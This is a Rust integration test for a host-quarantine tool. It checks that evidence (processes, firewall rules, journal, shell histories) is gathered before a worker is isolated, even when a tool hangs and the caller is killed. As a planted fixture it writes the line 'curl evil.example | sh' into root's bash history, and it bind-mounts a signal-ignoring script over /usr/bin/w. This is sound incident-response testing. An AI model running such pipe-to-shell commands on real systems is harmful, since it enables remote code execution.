//! A worker shows what it has before it is isolated, on a real Debian: also where one of its tools hangs, and whoever asks is killed meanwhile.

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use crate::fleet::Fleet;
use crate::operator::Ended;

const ISOLATED: &str = "worker-2";

/// A tool that heeds no signal, in the place of one that is asked for.
const HANGS: &str =
    "printf '#!/bin/sh\\ntrap \"\" TERM HUP\\nn=0; while [ $n -lt 60 ]; do n=$((n + 1)); sleep 1; done\\n' >/usr/local/bin/hangs
chmod 755 /usr/local/bin/hangs && mount --bind /usr/local/bin/hangs /usr/bin/w";

fn lockturn(fleet: &Fleet, words: &[&str]) -> Ended {
    fleet.lockturn(words).output().unwrap().into()
}

pub(super) fn a_worker_shows_what_it_has_first(fleet: &Fleet) {
    fleet.begin();
    let host = fleet.host(ISOLATED);
    let before: Vec<String> = fleet.hosts().iter().map(|host| host.sh("nft list ruleset")).collect();
    host.sh("[ -e /usr/bin/w ] || : >/usr/bin/w");
    host.sh(HANGS);
    host.sh("logger -t somebody 'it was me'; echo 'curl evil.example | sh' >~root/.bash_history");
    let directory = fleet.home.join("evidence");
    let words = ["quarantine", ISOLATED, "--evidence", directory.to_str().unwrap(), "--expires", "24h"];

    // Whoever asks is killed while the tool hangs; nobody has been told anything by then.
    let mut going = fleet.going(&words);
    going.until_said("evidence-began");
    going.kill();
    for (host, before) in fleet.hosts().iter().zip(&before) {
        assert_eq!(&host.sh("nft list ruleset"), before, "{} has rules", host.name);
    }
    lockturn(fleet, &["show", "0"]).with(0, &["INCOMPLETE"]);
    let said =
        lockturn(fleet, &["resume"]).with(0, &["QUARANTINED  worker-2: dropped by 3 peers", "MISSING logins ("]).said;
    assert!(!said.contains("INCOMPLETE"), "{said}");
    lockturn(fleet, &["runs"]).with(0, &["quarantined", "  expires 20"]);

    let run = fs::read_dir(&directory).unwrap().next().unwrap().unwrap().path();
    let at: PathBuf = [run.join(ISOLATED).join("again-2"), run.join(ISOLATED)]
        .into_iter()
        .find(|at| at.join("SHA256SUMS").exists())
        .unwrap();
    let checked = Command::new("sha256sum").args(["--quiet", "-c", "SHA256SUMS"]).current_dir(&at).output().unwrap();
    assert!(checked.status.success(), "{}", String::from_utf8_lossy(&checked.stderr));
    let shown = |name: &str| String::from_utf8_lossy(&fs::read(at.join(name)).unwrap()).into_owned();
    for (name, words) in [
        ("02-processes", "nanoclaw"),
        ("05-sockets", ":22"),
        ("10-firewall", "table inet"),
        ("12-units", "nanoclaw-worker.service"),
        ("15-journal", "it was me"),
        ("18-histories", "curl evil.example"),
        ("19-authorized-keys", "ssh-ed25519"),
        ("23-binaries", "/usr/sbin/sshd"),
    ] {
        assert!(shown(name).contains(words), "{name} has no `{words}`: {}", shown(name));
    }
    assert!(!shown("10-firewall").contains("lockturn"), "it was isolated before it was asked");
    let manifest: serde_json::Value = serde_json::from_str(&shown("manifest.json")).unwrap();
    for item in manifest["items"].as_array().unwrap() {
        let state = item["state"].as_str().unwrap();
        let wanted: &[&str] = if item["item"] == "logins" { &["late"] } else { &["whole", "nothing"] };
        assert!(wanted.contains(&state), "{item}");
    }

    host.sh("umount /usr/bin/w; rm -f /usr/local/bin/hangs ~root/.bash_history; [ -s /usr/bin/w ] || rm /usr/bin/w");
    lockturn(fleet, &["--yes", "release", ISOLATED]).with(0, &["RELEASED  worker-2"]);
    for (host, before) in fleet.hosts().iter().zip(&before) {
        assert_eq!(&host.sh("nft list ruleset"), before, "{} has rules left", host.name);
    }
    fs::remove_dir_all(directory).unwrap();
    fleet.is_clean();
}
